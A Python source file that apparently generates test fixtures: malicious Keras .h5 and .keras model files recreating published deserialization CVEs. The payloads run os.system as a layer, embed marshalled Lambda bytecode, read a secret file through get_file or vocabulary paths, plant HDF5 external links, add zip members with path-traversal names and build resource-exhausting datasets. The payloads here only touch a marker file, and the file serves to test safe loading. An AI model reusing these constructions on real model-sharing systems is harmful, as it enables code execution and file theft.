"""Keras files that try to run a command, or to read a file, while they are opened: made from public descriptions.

CVE-2024-3660 and CVE-2025-9905 (code of a Lambda layer), CVE-2025-1550 (a function of any module as a layer),
CVE-2025-8747 and CVE-2025-12060 (a function of Keras that fetches and unpacks), CVE-2025-9906 (a function that switches
the checks off), CVE-2025-12058 (a vocabulary read from a path), and other places where Keras rebuilds objects.
"""

import base64
import io
import json
import marshal
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import h5py
import numpy as np

KEYS = ("optimizer_config", "build_config", "compile_config", "training_config", "config", "anything")


def keras_files(folder: Path, mark: Path, secret: Path) -> Iterator[tuple[str, Path]]:
    """(name, file) of each kind; `mark` is made by those that run, `secret` is what others try to read."""
    for name, architecture, versions in architectures(mark, secret):
        for version in versions:
            text = json.dumps(of_version(architecture(version), version))
            yield f"h5-{version}-{name}", h5(folder / f"{name}-{version}.h5", text, version)
            yield f"keras-{version}-{name}", zipped(folder / f"{name}-{version}.keras", text, version)
    plain = json.dumps(of_version(model(dense()), "3.10.0"))
    for name, change in storages(secret).items():
        yield f"h5-{name}", h5(folder / f"{name}.h5", plain, "2.15.0", change)
        yield f"keras-{name}", zipped(folder / f"{name}.keras", plain, "3.10.0", change)
    yield "keras-member-outside", zipped(folder / "outside.keras", plain, "3.10.0", extra={f"../../{mark.name}": b"x"})
    for name, method in (("bzip2", zipfile.ZIP_BZIP2), ("lzma", zipfile.ZIP_LZMA)):
        yield f"keras-{name}", repacked(zipped(folder / f"{name}.keras", plain, "3.10.0"), method)
    yield "keras-member-absolute", zipped(folder / "absolute.keras", plain, "3.10.0", extra={str(mark): b"x"})


# ---- architectures ---------------------------------------------------------------------------------------------------


def architectures(mark: Path, secret: Path) -> Iterator[tuple[str, Any, tuple[str, ...]]]:
    """(name, architecture by version, versions)."""
    both = ("2.15.0", "3.10.0")
    payload = command(mark)

    def at(place: str, wrap: Any) -> tuple[str, Any, tuple[str, ...]]:
        return place, lambda version: model(dense(**wrap(payload(version)))), both

    yield "a-function-as-a-layer", payload, both
    for key in KEYS:
        yield at(f"initializer-value-{key}", lambda inner, key=key: {
            "kernel_initializer": keras_object("Constant", "keras.initializers", value={key: inner})})
    yield at("initializer-value-list", lambda inner: {
        "kernel_initializer": keras_object("Constant", "keras.initializers", value=[[inner]])})
    yield at("regularizer", lambda inner: {"kernel_regularizer": inner})
    yield at("dtype", lambda inner: {"dtype": keras_object("DTypePolicyMap", "keras", policy_map={"x": inner})})
    yield at("unknown-setting", lambda inner: {"surprise": inner})
    yield "build-config", lambda version: model({**dense(), "build_config": {"input_shape": payload(version)}}), both
    yield "compile-config", lambda version: model({**dense(), "compile_config": {"loss": payload(version)}}), both
    yield "compile-config-nested", lambda version: model(
        {**model(dense()), "name": "inner", "compile_config": {"optimizer": payload(version)}}), both
    yield "rescaling", lambda version: model(layer("Rescaling", scale=payload(version))), both
    yield "text-vectorization", lambda version: model(
        layer("TextVectorization", standardize=payload(version), vocabulary=["a"])), both
    yield "arguments-of-a-call", lambda version: model(
        {**dense(), "inbound_nodes": [{"args": [payload(version)], "kwargs": {}}]}), both
    yield "pipeline", lambda version: model(layer("Pipeline", layers=[payload(version)])), both
    yield "registered-name", lambda version: model(
        {**layer("NoSuchLayer", filepath=str(secret)), "module": "tf_keras.src.utils.data_utils",
         "registered_name": "get_file"}), both
    code = base64.b64encode(marshal.dumps(_code_of(mark))).decode()
    yield "lambda-marshalled", lambda version: model(
        layer("Lambda", function=[code, None, None], function_type="lambda", output_shape_type="raw")), both
    yield "lambda-object", lambda version: model(layer("Lambda", function={
        "class_name": "__lambda__", "config": {"code": code, "value": code, "defaults": None, "closure": None}})), both
    for module, function in (("keras.utils", "get_file"), ("keras.config", "enable_unsafe_deserialization"),
                             ("keras.saving", "load_model"), ("tf_keras.src.utils.data_utils", "get_file")):
        reference = {"class_name": "function", "module": module, "config": function, "registered_name": function}
        yield f"lambda-of-{module}.{function}", lambda version, reference=reference: model(layer(
            "Lambda", function=reference, arguments={"origin": f"file://{secret}", "cache_dir": str(mark)})), both
    for vocabulary in (str(secret), f"file://{secret}"):
        for kind in ("StringLookup", "IntegerLookup", "TextVectorization"):
            yield f"vocabulary-{kind}-{vocabulary[:5].strip('/')}", lambda version, kind=kind, v=vocabulary: model(
                layer(kind, vocabulary=v)), both
    yield "saved-model-layer", lambda version: model(layer("TFSMLayer", filepath=str(secret.parent))), both
    yield "operation-as-text", lambda version: model(
        layer("TensorFlowOpLayer", node_def=write_operation(mark), constants={"0": str(mark), "1": "run"})), ("2.2.0",)
    yield "operation-as-json", lambda version: model(layer("TensorFlowOpLayer", constants={"0": str(mark), "1": "run"},
        node_def={"name": "w", "op": "WriteFile", "input": ["a", "b"],
                  "attr": {"note": {"s": base64.b64encode(b'op: "Add"').decode()}}})), ("2.2.0",)
    for function in ("io.write_file", "io.read_file", "py_function", "load_op_library", "saved_model.load"):
        yield f"function-{function}", lambda version, function=function: model(
            {**layer("TFOpLambda", function=function),
             "inbound_nodes": [["_CONSTANT_VALUE", -1, str(secret), {"contents": "run"}]]}), ("2.15.0",)


def command(mark: Path) -> Any:
    """A whole model that runs a command as it is rebuilt, by version: a function as a layer, called on a constant.

    For the Keras of the second series the function stands in a Lambda layer, which its safe mode lets through.
    """

    def payload(version: str) -> dict[str, Any]:
        text = f"touch '{mark}'"
        function = {"class_name": "function", "module": "os", "config": "system", "registered_name": "system"}
        if version.startswith("2"):
            called = layer(
                "Lambda", function=function, function_type="function", output_shape=None, output_shape_type="raw")
            called["inbound_nodes"] = [["_CONSTANT_VALUE", -1, text, {}]]
            return model(called)
        return model({**function, "name": "system", "inbound_nodes": [{"args": [text], "kwargs": {}}]})

    return payload


def of_version(node: Any, version: str) -> Any:
    """The architecture with models in the module where that Keras has them."""
    if isinstance(node, list):
        return [of_version(item, version) for item in node]
    if not isinstance(node, dict):
        return node
    home = "tf_keras.src.engine.functional" if version.startswith("2") else "keras.src.models.functional"
    return {
        key: home if (key, value) == ("module", "keras") and node["class_name"] == "Functional"
        else of_version(value, version)
        for key, value in node.items()
    }


def model(*layers: dict[str, Any]) -> dict[str, Any]:
    first = {"class_name": "InputLayer", "name": "x", "inbound_nodes": [], "module": "keras.layers",
             "config": {"name": "x", "batch_input_shape": [None, 4], "dtype": "float32"}, "registered_name": None}
    return {
        "class_name": "Functional", "module": "keras", "registered_name": "Functional",
        "config": {"name": "m", "layers": [first, *layers], "input_layers": [["x", 0, 0]],
                   "output_layers": [[layers[-1].get("name", "d"), 0, 0]]},
    }  # fmt: skip


def layer(kind: str, **config: Any) -> dict[str, Any]:
    return {"class_name": kind, "module": "keras.layers", "registered_name": None, "name": "d",
            "config": {"name": "d", **config}, "inbound_nodes": [[["x", 0, 0, {}]]]}  # fmt: skip


def dense(**config: Any) -> dict[str, Any]:
    return layer("Dense", units=2, **config)


def keras_object(kind: str, module: str, **config: Any) -> dict[str, Any]:
    return {"class_name": kind, "module": module, "config": config, "registered_name": None}


def write_operation(mark: Path) -> str:
    """A `WriteFile` in protobuf's binary form, as text, with an attribute that reads `op: "Add"`."""
    from tensorflow.core.framework.node_def_pb2 import NodeDef

    node = NodeDef(name="w", op="WriteFile", input=["a", "b"])
    node.attr["note"].s = b'op: "Add"'
    return node.SerializeToString().decode()


def _code_of(mark: Path) -> Any:
    def run(x: Any) -> Any:
        __import__("pathlib").Path("MARK").write_text("run")
        return x

    constants = tuple(str(mark) if value == "MARK" else value for value in run.__code__.co_consts)
    return run.__code__.replace(co_consts=constants)


# ---- files -----------------------------------------------------------------------------------------------------------


def storages(secret: Path) -> dict[str, Any]:
    """Ways of an HDF5 file to hold what is not in it; each changes an open file."""

    def external_storage(file: h5py.File) -> None:
        file.create_dataset("stray", (4, 2), "f4", external=[(str(secret), 0, h5py.h5f.UNLIMITED)])

    def virtual(file: h5py.File) -> None:
        layout = h5py.VirtualLayout((4, 2), "f4")
        layout[:] = h5py.VirtualSource(str(secret), "kernel", shape=(4, 2))
        file.create_virtual_dataset("stray", layout)

    def deep(file: h5py.File) -> None:
        file["a/b/c"] = h5py.ExternalLink(str(secret), "/")

    return {
        "external-link": lambda file: file.__setitem__("stray", h5py.ExternalLink(str(secret), "/")),
        "external-link-deep": deep,
        "soft-link": lambda file: file.__setitem__("stray", h5py.SoftLink("/model_weights")),
        "external-storage": external_storage,
        "virtual-dataset": virtual,
        "huge-dataset": lambda file: file.create_dataset("stray", (1 << 20, 54_000), "f4", chunks=(1024, 54)),
    }


def h5(path: Path, text: str, version: str, change: Any = None) -> Path:
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = text
        file.attrs["keras_version"] = version
        file.attrs["backend"] = "tensorflow"
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = [b"x", b"d"]
        group.create_group("x").attrs["weight_names"] = np.array([], "S1")
        group.create_group("d").attrs["weight_names"] = [b"d/kernel:0", b"d/bias:0"]
        group["d/d/kernel:0"] = np.ones((4, 2), np.float32)
        group["d/d/bias:0"] = np.ones(2, np.float32)
        if change is not None:
            change(file)
    return path


def repacked(path: Path, method: int) -> Path:
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return path


def zipped(path: Path, text: str, version: str, change: Any = None, extra: dict[str, bytes] | None = None) -> Path:
    inner = io.BytesIO()
    with h5py.File(inner, "w") as file:
        for store in ("layers/dense/vars", "_layer_checkpoint_dependencies/d/vars"):
            file[f"{store}/0"] = np.ones((4, 2), np.float32)
            file[f"{store}/1"] = np.ones(2, np.float32)
        if change is not None:
            change(file)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", text)
        archive.writestr("metadata.json", json.dumps({"keras_version": version}))
        archive.writestr("model.weights.h5", inner.getvalue())
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return path
